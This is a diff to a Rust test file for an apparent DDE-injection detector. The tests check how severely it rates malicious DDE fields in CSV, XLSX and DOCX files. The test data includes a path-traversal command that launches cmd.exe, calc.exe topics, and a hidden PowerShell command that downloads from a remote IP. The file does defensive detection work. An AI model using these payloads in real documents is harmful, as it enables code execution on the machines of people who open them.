@@ -89,6 +89,14 @@ fn launches_name_the_command_that_would_run() {
         ),
         (
             "csv",
+            "MSEXCEL",
+            r"x\..\..\..\windows\System32\cmd.exe /c calc",
+            Trigger::Calculation,
+            Level::High,
+            r"C:\windows\System32\cmd.exe /c calc",
+        ),
+        (
+            "csv",
             "rundll321234567890abcdefghijklmnopqrstuvwxyz",
             "URL.dll,OpenURL calc.exe",
             Trigger::Calculation,
@@ -157,6 +165,7 @@ fn what_starts_nothing_is_no_attack() {
     let table: &[(&'static str, &str, &str, &str)] = &[
         ("xls", "MTX", "DATA", "dde.data"),
         ("xls", "blp", "M", "dde.data"),
+        ("docx", "Excel", r"C:\Daten\..\Mappe1.xlsx", "dde.data"),
         ("docx", "Excel", r"C:\Daten\Mappe1.xlsx", "dde.data"),
         ("docx", "excel", "[Book1.xls]Sheet1", "dde.data"),
         ("ods", "soffice", "/home/user/x.ods", "dde.data"),
@@ -171,6 +180,8 @@ fn what_starts_nothing_is_no_attack() {
 fn unknown_servers_and_remote_topics_are_medium() {
     check(&dde("xlsx", "acmefeed", "PRICES", Trigger::Open), "dde.server", Level::Medium, Some("acmefeed.exe PRICES"));
     check(&dde("xlsx", "Excel", r"\\203.0.113.9\s\x.xls", Trigger::Open), "dde.remote", Level::Medium, None);
+    let odd = dde("xlsx", "Excel", r"C:\windows\system32\calc.exe /c x", Trigger::Open);
+    assert_eq!((odd.id.0.as_ref(), odd.level), ("dde.server", Level::Medium));
     let shell = dde("xlsx", "acmefeed", "/c powershell -w hidden iwr http://203.0.113.9/x", Trigger::Open);
     assert_eq!((shell.id.0.as_ref(), shell.level), ("dde.server", Level::High));
 }
